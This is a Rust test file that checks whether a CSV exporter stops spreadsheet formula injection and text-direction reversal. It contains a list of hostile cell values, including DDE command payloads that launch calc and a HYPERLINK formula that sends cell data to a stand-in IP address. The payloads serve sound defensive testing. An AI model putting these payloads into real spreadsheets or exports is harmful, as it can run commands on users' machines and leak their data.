//! T28: what somebody typed, whatever it is, arrives in a spreadsheet as text: never as a formula, never turned round.
//!
//! LibreOffice is not on every machine that runs this; the judge here reads CSV as spreadsheets do and knows what they
//! take for a formula.

use super::{csv_line, turns};
use proptest::prelude::*;

/// Reads CSV strictly (RFC 4180).
fn cells_of(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut signs = text.chars().peekable();
    let mut inside = false;
    while let Some(sign) = signs.next() {
        match (inside, sign) {
            (true, '"') if signs.peek() == Some(&'"') => {
                signs.next();
                cell.push('"');
            }
            (true, '"') => inside = false,
            (true, other) => cell.push(other),
            (false, '"') if cell.is_empty() => inside = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if signs.peek() == Some(&'\n') => {
                signs.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, other) => cell.push(other),
        }
    }
    rows
}

/// Whether a spreadsheet would reckon with this cell or send something with it.
fn is_dangerous(cell: &str) -> bool {
    let begins = cell.trim_start_matches([' ', '"', '\u{feff}']).chars().next();
    matches!(begins, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠' | '|' | '%'))
}

const HOSTILE: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "a,b\"c\r\nd",
    "\u{202e}gpj.exe",
    "%0A=1",
    "|calc",
];

#[test]
fn t28_no_cell_is_a_formula_and_none_turns_the_direction() {
    for hostile in HOSTILE {
        let line = csv_line(["before", hostile, "after"].into_iter());
        let rows = cells_of(&line);
        assert_eq!(rows.len(), 1, "{hostile:?} stays in its row");
        assert_eq!(rows[0].len(), 3, "{hostile:?} stays in its cell");
        assert_eq!((rows[0][0].as_str(), rows[0][2].as_str()), ("before", "after"));
        assert!(!is_dangerous(&rows[0][1]), "{hostile:?} became {:?}", rows[0][1]);
        assert!(!line.chars().any(turns));
    }
}

#[test]
fn t28_positive_control_the_judge_catches_a_cell_that_was_not_made_safe() {
    let caught = HOSTILE.iter().filter(|hostile| is_dangerous(hostile)).count();
    assert!(caught >= 12, "{caught} of {}", HOSTILE.len());
    let naive = format!("before,{},after\r\n", HOSTILE[1]);
    assert_ne!(cells_of(&naive)[0].len(), 3, "without quoting the cell falls apart");
}

proptest! {
    #[test]
    fn t28_any_text_stays_in_its_cell_and_is_no_formula(text in ".*", sign in "[=+@\\-\t\r\n]?") {
        let text = format!("{sign}{text}");
        let line = csv_line([text.as_str(), "after"].into_iter());
        let rows = cells_of(&line);
        prop_assert_eq!(rows.len(), 1);
        prop_assert_eq!(rows[0].len(), 2);
        prop_assert!(!is_dangerous(&rows[0][0]), "{:?}", rows[0][0]);
        let kept: String = text.chars().filter(|sign| !turns(*sign)).collect();
        let quoted = format!("'{kept}");
        prop_assert!(rows[0][0] == kept || rows[0][0] == quoted);
    }
}
